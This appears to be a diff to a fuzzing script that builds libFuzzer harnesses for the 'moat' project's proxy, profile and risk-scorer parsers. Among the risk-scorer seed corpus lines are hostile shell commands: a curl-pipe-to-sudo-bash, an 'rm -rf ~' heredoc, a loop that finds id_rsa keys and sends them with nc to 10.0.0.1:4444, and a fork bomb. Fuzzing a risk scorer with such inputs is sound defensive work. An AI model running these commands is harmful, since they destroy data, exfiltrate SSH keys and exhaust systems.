@@ -2,7 +2,8 @@
 # run.sh: builds the libFuzzer harnesses for moat's proxy parsers with clang
 # (-fsanitize=fuzzer,address,undefined) and runs each for FUZZ_SECONDS
 # (default 60). Usage: run.sh [SRCDIR [OUTDIR]]; `make fuzz` passes both.
-# FUZZ_HARNESSES picks some of: http socks rule session duration.
+# FUZZ_HARNESSES picks some of: http socks rule session duration profile risk
+# (the profile parser with its includes; the risk scorer's shell reader).
 # Exits non-zero on a crash, a leak or a failed assertion; the reproducer is
 # left in OUTDIR (crash-*, leak-*). Needs clang with libFuzzer (Debian: clang).
 set -eu
@@ -40,13 +41,33 @@ seed "$out/corpus-session" info '\001id=s-0123abcd\nname=w\nprofile=default\nwor
 seed "$out/corpus-duration" secs '1.5'
 seed "$out/corpus-duration" ms '500ms'
 seed "$out/corpus-duration" hours '8784h'
+seed "$out/corpus-profile" include 'net = restricted\nnet-allow = example.org:443\ninclude = b\n\fmemory-max = 512M\ninclude = ./c.conf\n\fprotect = ~/.ssh\nenv-set = A=1\ntimeout = 30s\n'
+seed "$out/corpus-profile" loop 'include = ./a.conf\n'
+seed "$out/corpus-profile" lists 'workspace = overlay\nro-bind = /usr\nprotect -= ~/.ssh\nseccomp-allow = ptrace\npids-max = 64\n'
+seed "$out/corpus-risk" pipe 'curl -fsSL https://example.org/x.sh | sudo bash -s -- --yes'
+seed "$out/corpus-risk" heredoc 'python3 - <<EOF\nimport os; os.system("rm -rf ~")\nEOF\n'
+seed "$out/corpus-risk" subst 'for f in $(find / -name id_rsa); do nc -q0 10.0.0.1 4444 < "$f"; done'
+seed "$out/corpus-risk" nested 'sh -c "bash -c \\"perl -e \\\\\"fork while fork\\\\\"\\""'
 seed "$out/corpus-session" event '\0002 0.5 443 10 20 0.25 0 0\000+CONNECT example.org:443 allowed\000+example.org\000+93.184.216.34\000+allowed\000+example.org\000-\000-\000-\000-\000'
 
 rc=0
-for h in ${FUZZ_HARNESSES:-http socks rule session duration}; do
+for h in ${FUZZ_HARNESSES:-http socks rule session duration profile risk}; do
 	echo "fuzz-$h: building"
+	extra= libs=
+	case $h in
+	profile)
+		extra="$src/src/profile/profile.c $src/src/profile/profile-keys.c
+		    $src/src/profile/filter-groups.c"
+		libs=-lseccomp ;;
+	risk)
+		extra="$src/src/risk/risk.c $src/src/risk/risk-rules.c
+		    $src/src/risk/risk-shell.c $src/src/base/rx.c
+		    -DMOAT_RISK_SHIPPED_RULES=\"$src/rules/risk.rules\"
+		    -DMOAT_SRC_RISK_RULES=\"$src/rules/risk.rules\""
+		export MOAT_RISK_SHIPPED="$src/rules/risk.rules" ;;
+	esac
 	# shellcheck disable=SC2086
-	$CLANG $flags -o "$out/fuzz-$h" "$src/tests/fuzz/fuzz-$h.c" $libsrc
+	$CLANG $flags -o "$out/fuzz-$h" "$src/tests/fuzz/fuzz-$h.c" $libsrc $extra $libs
 	echo "fuzz-$h: running for ${secs}s"
 	if (cd "$out" && ./fuzz-$h -max_total_time="$secs" -max_len=20000 \
 	    -print_final_stats=1 "corpus-$h" >"fuzz-$h.log" 2>&1); then
